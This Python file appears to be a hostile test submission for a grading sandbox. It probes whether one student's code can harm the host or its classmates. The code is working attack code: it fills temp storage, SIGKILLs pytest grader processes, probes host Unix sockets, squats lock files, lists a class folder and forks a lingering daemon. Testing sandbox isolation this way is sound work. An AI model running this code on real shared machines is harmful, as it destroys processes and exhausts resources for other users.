# Hostile: goes after the machine and the classmates graded beside it. It fills /tmp,
# /var/tmp and /dev/shm with 128 MiB each (to be left behind), kills every process it can
# signal, connects to every host Unix socket it can find (ABSTRACT, filled in by the test,
# is an abstract one the test listens on), squats the worker users' lock files, lists the
# class folder (OUT) and leaves a daemon that keeps trying for 20 s. Its to_bytes is not
# done; it raises with a report of what it reached, which must be nothing.
import glob
import json
import os
import signal
import socket
import time

ABSTRACT = "__ABSTRACT__"
OUT = "__OUT__"
BLOB = b"s" * (1024 * 1024)


def _fill(folder):
    written = 0
    try:
        with open(os.path.join(folder, "netlings-redteam-squat"), "wb") as f:
            for _ in range(128):
                f.write(BLOB)
                written += len(BLOB)
    except OSError:
        pass
    return written


def _sockets():
    reached = []
    targets = ["\0" + ABSTRACT]
    for pattern in ("/run/**/*", "/var/run/**/*", "/tmp/**/*", "/dev/**/*"):
        targets += glob.glob(pattern, recursive=True)[:200]
    for path in targets:
        try:
            if not path.startswith("\0") and not os.path.exists(path):
                continue
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.settimeout(0.2)
                s.connect(path)
                reached.append(path.replace("\0", "@"))
        except OSError:
            continue
    return reached


def _kill_all():
    killed = []
    for entry in glob.glob("/proc/[0-9]*"):
        pid = int(entry.rsplit("/", 1)[1])
        if pid in (os.getpid(), os.getppid(), 1):
            continue
        try:
            with open(f"{entry}/cmdline", "rb") as f:
                cmdline = f.read()
            if b"pytest" in cmdline:  # the processes that decide grades
                os.kill(pid, signal.SIGKILL)
                killed.append(pid)
        except OSError:
            continue
    return killed


def _squat():
    squatted = []
    for folder in ("/run/netlings", "/var/lock/netlings", "/var/lib/netlings/locks"):
        for uid in range(64100, 64110):
            try:
                with open(os.path.join(folder, f"uid-{uid}.lock"), "a"):
                    squatted.append(f"{folder}/uid-{uid}.lock")
            except OSError:
                pass
    return squatted


def _daemon():
    try:
        if os.fork() != 0:
            return True
    except OSError:
        return False
    try:
        os.setsid()
        os.closerange(0, 1024)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            _kill_all()
            _sockets()
            time.sleep(0.2)
    finally:
        os._exit(0)


def to_bytes(text):
    report = {
        "filled": {d: _fill(d) for d in ("/tmp", "/var/tmp", "/dev/shm")},
        "sockets": _sockets(),
        "killed": _kill_all(),
        "squatted": _squat(),
        "out": sorted(glob.glob(os.path.join(OUT, "*")))[:20],
        "daemon": _daemon(),
    }
    raise RuntimeError("neighbour report: " + json.dumps(report, sort_keys=True))
